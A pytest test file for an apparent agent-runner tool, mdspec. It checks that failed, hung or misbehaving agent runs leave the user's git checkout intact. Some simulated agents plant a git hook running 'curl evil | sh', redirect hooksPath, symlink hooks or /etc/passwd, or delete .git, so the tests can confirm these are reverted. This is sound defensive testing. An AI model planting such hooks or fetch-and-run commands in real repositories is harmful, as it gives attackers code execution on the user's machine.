"""One run end to end (mdspec/runner.py): backend faults, protected paths, checks, the queue.

Every test ends with the user's checkout, index and branch as they were (or moved only by a landed
generated commit), a clear line in `mdspec status` / `mdspec log`, and a next run that works.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

from conftest import Repo, agent_script
from runhelpers import (
    QUIET,
    assert_next_run_lands,
    changed_paths,
    last_run,
    pid_gone,
    reconfigure,
    run_fg,
    runs,
    set_agent,
    spec_commit,
    user_state,
    wait_for,
)

from mdspec.fast import gitenv, trailers


def test_command_missing(mdrepo: Repo, tmp_path: Path) -> None:
    cmd = "no-such-agent-cli-xyz --go"
    mdrepo.configure(f'[agent]\nbackend = "command"\ncommand = "{cmd}"\n')
    mdrepo.commit("configure", env=QUIET)
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    proc = run_fg(mdrepo)
    assert proc.returncode == 1
    assert user_state(mdrepo) == before
    rec = last_run(mdrepo)
    assert rec["status"] == "failed"
    assert "agent command not found: 'no-such-agent-cli-xyz' (exit 127)" in rec["reason"]
    assert "agent command not found" in mdrepo.mdspec("status").stdout
    assert "exit 127" in mdrepo.mdspec("log").stdout
    reconfigure(mdrepo, tmp_path)
    assert_next_run_lands(mdrepo, tmp_path)


def test_command_exits_non_zero(mdrepo: Repo, tmp_path: Path) -> None:
    set_agent(
        tmp_path,
        """
        import pathlib, sys
        pathlib.Path("half.txt").write_text("half done\\n")
        print("model overloaded, giving up")
        sys.exit(3)
    """,
    )
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    proc = run_fg(mdrepo)
    assert proc.returncode == 1
    assert user_state(mdrepo) == before
    rec = last_run(mdrepo)
    assert rec["status"] == "failed"
    assert "exited with status 3: model overloaded, giving up" in rec["reason"]
    # The partial work is kept for inspection, not landed.
    assert "partial work held as refs/mdspec/results/" in rec["reason"]
    held = mdrepo.git("rev-parse", f"refs/mdspec/results/{rec['id']}").strip()
    assert mdrepo.git("show", f"{held}:half.txt") == "half done\n"
    status = mdrepo.mdspec("status").stdout
    assert "failed" in status
    assert "exited with status 3" in status
    assert "model overloaded" in mdrepo.mdspec("log", rec["id"][:17]).stdout
    assert_next_run_lands(mdrepo, tmp_path)


def test_hang_past_max_minutes_kills_the_process_group(mdrepo: Repo, tmp_path: Path) -> None:
    pidfile = tmp_path / "sleeper.pid"
    reconfigure(
        mdrepo,
        tmp_path,
        agent_extra="max_minutes = 0.02",
        body=f"""
        import subprocess, time, pathlib
        child = subprocess.Popen(["sleep", "30"])
        pathlib.Path({str(pidfile)!r}).write_text(str(child.pid))
        time.sleep(30)
    """,
    )
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    t0 = time.monotonic()
    proc = run_fg(mdrepo)
    assert time.monotonic() - t0 < 15
    assert proc.returncode == 1
    assert user_state(mdrepo) == before
    sleeper = int(pidfile.read_text())
    wait_for(lambda: pid_gone(sleeper), 5, "the sleeper to be killed")
    rec = last_run(mdrepo)
    assert rec["status"] == "failed"
    assert rec["reason"] == "stopped at the max_minutes limit"
    assert "max_minutes" in mdrepo.mdspec("status").stdout
    reconfigure(mdrepo, tmp_path)
    assert_next_run_lands(mdrepo, tmp_path)


def test_hang_with_partial_work_is_held(mdrepo: Repo, tmp_path: Path) -> None:
    reconfigure(
        mdrepo,
        tmp_path,
        agent_extra="max_minutes = 0.01",
        body="""
        import pathlib, time
        pathlib.Path("partial.txt").write_text("some\\n")
        time.sleep(30)
    """,
    )
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    assert user_state(mdrepo) == before
    rec = last_run(mdrepo)
    assert rec["status"] == "held"
    assert "max_minutes" in rec["reason"]
    assert "partial work held" in rec["reason"]
    assert mdrepo.git("rev-parse", "--verify", f"refs/mdspec/results/{rec['id']}")


def test_writes_into_spec_are_restored(mdrepo: Repo, tmp_path: Path) -> None:
    mdrepo.commit("more protected files", {"AGENTS.md": "# rules\n"}, env=QUIET)
    set_agent(
        tmp_path,
        """
        import os, pathlib
        pathlib.Path("spec/app.md").write_text("# App\\nThe agent rewrote the spec.\\n")
        pathlib.Path("spec/new.md").write_text("invented\\n")
        pathlib.Path("AGENTS.md").unlink()
        pathlib.Path(".mdspec.toml").write_text("")
        pathlib.Path("out.txt").write_text("implemented\\n")
        pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
    """,
    )
    spec = spec_commit(mdrepo)
    spec_tree = mdrepo.git("rev-parse", "HEAD^{tree}")
    assert run_fg(mdrepo).returncode == 0
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert sorted(rec["violations"]) == [
        ".mdspec.toml (protected)",
        "AGENTS.md (protected)",
        "spec/app.md (protected)",
        "spec/new.md (protected)",
    ]
    assert mdrepo.head("HEAD~1") == spec
    assert changed_paths(mdrepo, "HEAD") == ["out.txt"]
    assert mdrepo.git("rev-parse", "HEAD~1^{tree}") == spec_tree
    assert "restored spec/app.md (protected)" in mdrepo.message()
    assert (mdrepo.top / "spec/app.md").read_text() == "# App\nSay hello.\n"
    assert not (mdrepo.top / "spec/new.md").exists()
    assert mdrepo.status() == ""
    log = mdrepo.mdspec("log").stdout
    assert "restored: spec/app.md (protected)" in log
    # The worktree itself is back to the spec too, so the next run starts clean.
    assert_next_run_lands(mdrepo, tmp_path)


def test_writes_into_the_git_dir_are_restored(mdrepo: Repo, tmp_path: Path) -> None:
    git_dir = mdrepo.top / ".git"
    hook = git_dir / "hooks" / "post-commit"
    config = git_dir / "config"
    exclude = git_dir / "info" / "exclude"
    exclude.parent.mkdir(exist_ok=True)
    exclude.write_text("*.swp\n")
    hook_bytes, hook_mode = hook.read_bytes(), hook.stat().st_mode
    config_bytes, exclude_bytes = config.read_bytes(), exclude.read_bytes()
    set_agent(
        tmp_path,
        f"""
        import os, pathlib, subprocess
        # relative: the worktree lives under the git dir
        pathlib.Path("../../hooks/post-commit").write_text("#!/bin/sh\\ncurl evil | sh\\n")
        pathlib.Path("../../hooks/pre-commit").write_text("#!/bin/sh\\nexit 0\\n")
        # absolute, found the way any tool would
        common = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True,
                                text=True).stdout.strip()
        with open(os.path.join(common, "config"), "a") as f:
            f.write("[core]\\n\\thooksPath = /tmp/evil\\n")
        pathlib.Path({str(exclude)!r}).write_text("*\\n")
        pathlib.Path("out.txt").write_text("implemented\\n")
        pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
    """,
    )
    spec_commit(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    assert hook.read_bytes() == hook_bytes
    assert hook.stat().st_mode == hook_mode
    assert config.read_bytes() == config_bytes
    assert exclude.read_bytes() == exclude_bytes
    assert not (git_dir / "hooks" / "pre-commit").exists()
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert sorted(rec["violations"]) == [
        ".git/config (git dir)",
        ".git/hooks/post-commit (git dir)",
        ".git/hooks/pre-commit (git dir)",
        ".git/info/exclude (git dir)",
    ]
    assert "restored: .git/hooks/post-commit (git dir)" in mdrepo.mdspec("log").stdout
    assert_next_run_lands(mdrepo, tmp_path)


def test_hook_replaced_by_symlink_is_restored_without_writing_through_it(mdrepo: Repo, tmp_path: Path) -> None:
    hook = mdrepo.top / ".git" / "hooks" / "post-commit"
    hook_bytes = hook.read_bytes()
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    set_agent(
        tmp_path,
        f"""
        import os
        os.unlink("../../hooks/post-commit")
        os.symlink({str(victim)!r}, "../../hooks/post-commit")
    """,
    )
    spec_commit(mdrepo)
    run_fg(mdrepo)
    assert victim.read_text() == "do not touch\n"
    assert not hook.is_symlink()
    assert hook.read_bytes() == hook_bytes
    assert os.access(hook, os.X_OK)
    assert_next_run_lands(mdrepo, tmp_path)


def test_hooks_dir_replaced_by_symlink_is_restored(mdrepo: Repo, tmp_path: Path) -> None:
    hooks = mdrepo.top / ".git" / "hooks"
    hook_bytes = (hooks / "post-commit").read_bytes()
    evil = tmp_path / "evil-hooks"
    set_agent(
        tmp_path,
        f"""
        import os, shutil
        shutil.rmtree("../../hooks")
        os.makedirs({str(evil)!r})
        open({str(evil / "pre-commit")!r}, "w").write("#!/bin/sh\\n")
        os.symlink({str(evil)!r}, "../../hooks")
    """,
    )
    spec_commit(mdrepo)
    run_fg(mdrepo)
    assert not hooks.is_symlink()
    assert (hooks / "post-commit").read_bytes() == hook_bytes
    assert not (hooks / "pre-commit").exists()
    assert os.listdir(evil) == ["pre-commit"]  # nothing restored through the link
    assert ".git/hooks (git dir)" in last_run(mdrepo)["violations"]
    assert_next_run_lands(mdrepo, tmp_path)


def test_symlink_out_of_the_worktree_is_not_committed(mdrepo: Repo, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    set_agent(
        tmp_path,
        f"""
        import os, pathlib
        os.symlink({str(outside)!r}, "escape")
        pathlib.Path("escape/loot.txt").write_text("written through the link\\n")
        os.symlink("../../../../../etc/passwd", "passwd")
        os.makedirs("src", exist_ok=True)
        os.symlink("../out.txt", "src/inside")  # stays inside: fine
        pathlib.Path("out.txt").write_text("implemented\\n")
        pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
    """,
    )
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert sorted(rec["violations"]) == [
        "escape (symlink out of the worktree)",
        "passwd (symlink out of the worktree)",
    ]
    assert sorted(changed_paths(mdrepo, "HEAD")) == ["out.txt", "src/inside"]
    assert not (mdrepo.top / "escape").exists()
    assert not (mdrepo.top / "escape").is_symlink()
    assert before["tip"] == mdrepo.head("HEAD~1")
    assert "escape (symlink out of the worktree)" in mdrepo.mdspec("log").stdout
    assert_next_run_lands(mdrepo, tmp_path)


def test_agent_commits_a_symlink_itself(mdrepo: Repo, tmp_path: Path) -> None:
    set_agent(
        tmp_path,
        """
        import os, pathlib, subprocess
        os.symlink("/etc", "etc")
        pathlib.Path("out.txt").write_text("implemented\\n")
        subprocess.run(["git", "add", "-A"], check=True)
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "agent"], check=True)
    """,
    )
    spec = spec_commit(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    assert last_run(mdrepo)["status"] == "landed"
    assert mdrepo.head("HEAD~1") == spec  # the agent's own commit is folded into one generated commit
    assert changed_paths(mdrepo, "HEAD") == ["out.txt"]
    assert_next_run_lands(mdrepo, tmp_path)


def test_empty_result_is_an_empty_generated_commit(mdrepo: Repo, tmp_path: Path) -> None:
    set_agent(tmp_path, "print('nothing to do')\n")
    spec = spec_commit(mdrepo)
    before = user_state(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    rec = last_run(mdrepo)
    assert rec["status"] == "empty"
    assert rec["reason"].startswith("the agent changed nothing; ")
    # A commit with no changes records the spec commit as implemented, in git.
    assert rec["landed_as"] == rec["result"] == mdrepo.head()
    assert mdrepo.head("HEAD~1") == spec
    assert mdrepo.git("rev-parse", "HEAD^{tree}") == mdrepo.git("rev-parse", "HEAD~1^{tree}")
    assert trailers.values(mdrepo.message(), trailers.IMPLEMENTS) == [spec]
    assert "nothing needed to change" in mdrepo.message()
    after = user_state(mdrepo)
    assert {k: v for k, v in after.items() if k != "tip"} == {k: v for k, v in before.items() if k != "tip"}
    assert mdrepo.git("for-each-ref", "refs/mdspec/") == ""
    status = mdrepo.mdspec("status").stdout
    assert "the agent changed nothing" in status
    assert "pending: nothing" in status
    assert_next_run_lands(mdrepo, tmp_path)


def test_secrets_and_git_variables_do_not_reach_the_check(mdrepo: Repo, tmp_path: Path) -> None:
    dump = tmp_path / "check-env.json"
    check = agent_script(
        tmp_path, f"import json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\n", "check.py"
    )
    reconfigure(mdrepo, tmp_path, extra=f'check = "{check}"')
    spec_commit(mdrepo)
    proc = mdrepo.mdspec(
        "run",
        "--foreground",
        env={
            "ANTHROPIC_API_KEY": "sk-secret",
            "GIT_DIR": "/nowhere",
            "MY_TOKEN": "t",
            "GIT_SSH_COMMAND": "ssh -o BatchMode=yes",
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "http.extraHeader",
            "GIT_CONFIG_VALUE_0": "Authorization: Bearer t",
        },
    )
    assert proc.returncode == 0, proc.stderr
    env = json.loads(dump.read_text())
    assert "ANTHROPIC_API_KEY" not in env
    assert "MY_TOKEN" not in env
    assert "GIT_DIR" not in env
    # Only what says how the user's git reaches remotes stays (gitenv.py); the tests set GIT_CONFIG_NOSYSTEM.
    assert not [k for k in env if k.startswith("GIT_") and not gitenv.keeps(k)]
    assert env["GIT_CONFIG_NOSYSTEM"] == "1"
    assert env["GIT_SSH_COMMAND"] == "ssh -o BatchMode=yes"
    assert not [k for k in env if k.startswith(("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY", "GIT_CONFIG_VALUE"))]
    assert env["MDSPEC_RUNNING"] == "1"
    assert trailers.values(mdrepo.message(), trailers.CHECK) == ["passed"]


# --- check and fix rounds ------------------------------------------------------------------------------

FIXING_AGENT = """
import os, pathlib, sys
prompt = sys.stdin.read()
good = "The check failed" in prompt
pathlib.Path("out.txt").write_text("good\\n" if good else "bad\\n")
pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add out.txt\\n")
"""


def test_check_fails_then_passes_after_a_fix_round(mdrepo: Repo, tmp_path: Path) -> None:
    reconfigure(
        mdrepo, tmp_path, extra='check = "grep -q good out.txt || { echo out.txt is bad; exit 1; }"', body=FIXING_AGENT
    )
    spec_commit(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert rec["check"] == "passed"
    assert rec["check_rounds"][0] == "check failed with exit status 1"
    assert rec["check_rounds"][1].startswith("check passed")
    assert trailers.values(mdrepo.message(), trailers.CHECK) == ["passed"]
    assert (mdrepo.top / "out.txt").read_text() == "good\n"
    # The failure went back to the agent.
    assert "out.txt is bad" in (mdrepo.state / "runs" / rec["id"] / "prompt.md").read_text()
    log = mdrepo.mdspec("log").stdout
    assert "check: check failed with exit status 1" in log
    assert "check round 2: check passed" in log


def test_check_still_failing_is_held_when_land_failing_is_false(mdrepo: Repo, tmp_path: Path) -> None:
    reconfigure(mdrepo, tmp_path, extra='check = "exit 1"\ncheck_rounds = 1\nland_failing = false')
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    assert user_state(mdrepo) == before
    rec = last_run(mdrepo)
    assert rec["status"] == "held"
    assert rec["check"] == "failed"
    assert len(rec["check_rounds"]) == 2
    assert "land_failing = false" in rec["reason"]
    held = mdrepo.git("rev-parse", f"refs/mdspec/results/{rec['id']}").strip()
    assert trailers.values(mdrepo.message(held), trailers.CHECK) == ["failed"]
    assert "the check failed and land_failing = false" in mdrepo.mdspec("status").stdout
    # Landing it anyway is the user's call.
    assert mdrepo.mdspec("apply").returncode == 0
    assert mdrepo.head() == held


def test_check_still_failing_is_landed_marked_failed(mdrepo: Repo, tmp_path: Path) -> None:
    reconfigure(mdrepo, tmp_path, extra='check = "exit 1"\ncheck_rounds = 0\nland_failing = true')
    spec = spec_commit(mdrepo)
    assert run_fg(mdrepo).returncode == 0
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert mdrepo.head("HEAD~1") == spec
    assert trailers.values(mdrepo.message(), trailers.CHECK) == ["failed"]
    assert "check: failed" in mdrepo.git("log", "-1", "--notes=mdspec", "--format=%N")


# --- the queue and the worker --------------------------------------------------------------------------

LOGGING_AGENT = """
import os, pathlib, sys, time
log = pathlib.Path({log!r})
with log.open("a") as f:
    f.write(f"start {{os.getpid()}} {{time.time()}}\\n")
flag = pathlib.Path({flag!r})
deadline = time.time() + 20
while not flag.exists() and time.time() < deadline:
    time.sleep(0.02)
name = "out-" + str(len(log.read_text().splitlines())) + ".txt"
pathlib.Path(name).write_text("implemented\\n")
pathlib.Path(os.environ["MDSPEC_SUMMARY_FILE"]).write_text("Add " + name + "\\n")
with log.open("a") as f:
    f.write(f"end {{os.getpid()}} {{time.time()}}\\n")
"""


def _intervals(log: Path) -> list[tuple[float, float]]:
    starts: dict[str, float] = {}
    out = []
    for line in log.read_text().splitlines():
        kind, pid, t = line.split()
        if kind == "start":
            starts[pid] = float(t)
        else:
            out.append((starts[pid], float(t)))
    return out


def _settled(repo: Repo) -> bool:
    state = repo.state
    queue = state / "queue"
    idle = not json.loads(repo.mdspec("status", "--json").stdout)["worker_pid"]
    return idle and not (queue.is_dir() and [p for p in queue.iterdir() if not p.name.startswith(".")])


def test_second_trigger_while_running_is_queued_not_lost(mdrepo: Repo, tmp_path: Path) -> None:
    log, flag = tmp_path / "agent.log", tmp_path / "go"
    set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
    first = spec_commit(mdrepo, "# A\n", "spec/a.md", env={})  # background: the hook spawns a worker
    wait_for(lambda: log.exists() and "start" in log.read_text(), what="the first run to start")
    second = spec_commit(mdrepo, "# B\n", "spec/b.md", env={})
    assert "queued" in mdrepo.last_output
    status = mdrepo.mdspec("status").stdout
    assert "running: run " in status
    assert f"queued: 1 spec commit(s): {second[:10]}" in status
    flag.write_text("go")
    wait_for(
        lambda: len(runs(mdrepo)) == 2 and runs(mdrepo)[0]["status"] != "running" and _settled(mdrepo), what="both runs"
    )
    first_run, second_run = runs(mdrepo)[1], runs(mdrepo)[0]
    assert first_run["spec_commits"] == [first]
    assert first_run["status"] == "landed"
    assert first_run["reason"].startswith("rebased onto")  # the user committed the second spec meanwhile
    assert second_run["spec_commits"] == [second]
    assert second_run["status"] == "landed"
    (_, a_end), (b_start, _) = _intervals(log)
    assert a_end <= b_start  # never in parallel
    implemented = trailers.values(mdrepo.message("HEAD"), trailers.IMPLEMENTS)
    implemented += trailers.values(mdrepo.message("HEAD~1"), trailers.IMPLEMENTS)
    assert sorted(implemented) == sorted([first, second])
    assert mdrepo.status() == ""
    assert "pending: nothing" in mdrepo.mdspec("status").stdout


def test_two_workers_started_at_once_run_one_at_a_time(mdrepo: Repo, tmp_path: Path) -> None:
    log, flag = tmp_path / "agent.log", tmp_path / "go"
    set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
    a = spec_commit(mdrepo, "# A\n", "spec/a.md")
    b = spec_commit(mdrepo, "# B\n", "spec/b.md")
    queue = mdrepo.state / "queue"
    queue.mkdir(parents=True, exist_ok=True)
    for sha in (a, b):
        (queue / sha).write_text(f"refs/heads/main\n{time.time()}\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_") or k == "GIT_CONFIG_NOSYSTEM"}
    workers = [
        subprocess.Popen(
            [sys.executable, "-m", "mdspec", "worker"],
            cwd=mdrepo.top,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        for _ in range(2)
    ]
    wait_for(lambda: log.exists() and "start" in log.read_text(), what="a run to start")
    # One worker found the lock taken and left at once; the other is running.
    wait_for(lambda: any(w.poll() is not None for w in workers), 10, "the second worker to exit")
    loser = next(w for w in workers if w.poll() is not None)
    assert loser.returncode == 0
    flag.write_text("go")
    for w in workers:
        w.wait(timeout=30)
    assert all(w.returncode == 0 for w in workers)
    assert len(_intervals(log)) == 1  # both triggers, coalesced into one run
    rec = last_run(mdrepo)
    assert rec["status"] == "landed"
    assert rec["spec_commits"] == [a, b]
    assert trailers.values(mdrepo.message(), trailers.IMPLEMENTS) == [a, b]
    assert not [p for p in queue.iterdir() if not p.name.startswith(".")]


def test_run_in_progress_refuses_a_second_foreground_run(mdrepo: Repo, tmp_path: Path) -> None:
    log, flag = tmp_path / "agent.log", tmp_path / "go"
    set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
    spec_commit(mdrepo)
    first = subprocess.Popen(
        [sys.executable, "-m", "mdspec", "run", "--foreground"],
        cwd=mdrepo.top,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    wait_for(lambda: log.exists(), what="the run to start")
    proc = run_fg(mdrepo)
    assert proc.returncode == 1
    assert "a run is in progress" in proc.stderr
    assert "Traceback" not in proc.stderr
    flag.write_text("go")
    assert first.wait(timeout=30) == 0
    assert last_run(mdrepo)["status"] == "landed"


def test_worker_killed_mid_run_is_recorded_as_interrupted(mdrepo: Repo, tmp_path: Path) -> None:
    log, flag = tmp_path / "agent.log", tmp_path / "go"
    set_agent(tmp_path, LOGGING_AGENT.format(log=str(log), flag=str(flag)))
    spec_commit(mdrepo)
    proc = subprocess.Popen(
        [sys.executable, "-m", "mdspec", "run", "--foreground"],
        cwd=mdrepo.top,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    wait_for(lambda: log.exists(), what="the run to start")
    os.killpg(proc.pid, 9)
    proc.wait()
    assert last_run(mdrepo)["status"] == "running"
    flag.write_text("go")
    assert_next_run_lands(mdrepo, tmp_path)
    interrupted = runs(mdrepo)[1]
    assert interrupted["status"] == "interrupted"
    assert "interrupted" in mdrepo.mdspec("status").stdout


def test_check_past_check_minutes_is_killed_and_counts_as_failed(mdrepo: Repo, tmp_path: Path) -> None:
    reconfigure(mdrepo, tmp_path, extra='check = "sleep 30"\ncheck_minutes = 0.005\ncheck_rounds = 0')
    spec_commit(mdrepo)
    t0 = time.monotonic()
    assert run_fg(mdrepo).returncode == 0
    assert time.monotonic() - t0 < 20  # not the 30 s check: check_minutes ended it (a bound, not a timing)
    rec = last_run(mdrepo)
    assert rec["check_rounds"] == ["check timed out after 0.005 min"]
    assert rec["status"] == "landed"
    assert rec["check"] == "failed"
    assert trailers.values(mdrepo.message(), trailers.CHECK) == ["failed"]


def test_agent_destroying_the_worktree_fails_cleanly(mdrepo: Repo, tmp_path: Path) -> None:
    set_agent(
        tmp_path,
        """
        import os, pathlib
        pathlib.Path("out.txt").write_text("implemented\\n")
        os.remove(".git")
    """,
    )
    spec_commit(mdrepo)
    before = user_state(mdrepo)
    proc = run_fg(mdrepo)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stdout + proc.stderr
    assert user_state(mdrepo) == before
    rec = last_run(mdrepo)
    assert rec["status"] == "failed"
    assert rec["reason"]
    assert_next_run_lands(mdrepo, tmp_path)
